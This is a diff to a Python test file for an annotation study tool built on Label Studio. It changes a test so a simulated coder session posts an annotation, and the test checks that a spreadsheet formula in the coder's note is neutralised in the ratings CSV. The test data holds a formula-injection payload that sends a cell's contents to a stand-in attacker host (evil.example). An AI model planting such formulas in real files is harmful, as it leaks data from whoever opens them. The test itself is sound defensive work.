@@ -12,6 +12,7 @@ import json
 import random
 import secrets
 import shutil
+from contextlib import closing
 from pathlib import Path
 
 import pytest
@@ -103,12 +104,15 @@ def test_a_cut_batch_file_stops_push_and_pull(rated):
 
 
 def test_a_coders_formula_note_is_neutralised_in_ratings_csv_and_kept_in_exports(
-        rated, label_studio):
+        rated, label_studio, simulated_session):
     client = LabelStudio(base_url=label_studio.url, api_key=label_studio.token)
-    project = int(read_projects(rated).iloc[0]["project_id"])
-    task = next(iter(client.tasks.list(project=project)))
+    record = read_projects(rated).iloc[0]
+    task = next(iter(client.tasks.list(project=int(record["project_id"]))))
     note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    client.annotations.create(id=task.id, result=annotation_result({"warmth": 3}, note))
+    with closing(simulated_session(rated, label_studio.url, record["coder"])) as coder:
+        made = coder.post(f"/api/tasks/{task.id}/annotations/",
+                          json={"result": annotation_result({"warmth": 3}, note)})
+        assert made.status_code == 201, made.text
     report = pull_study(rated)
     assert report.new == 1
     cells = [row[-1] for row in csv.reader(rated.ratings_csv.open(newline=""))]
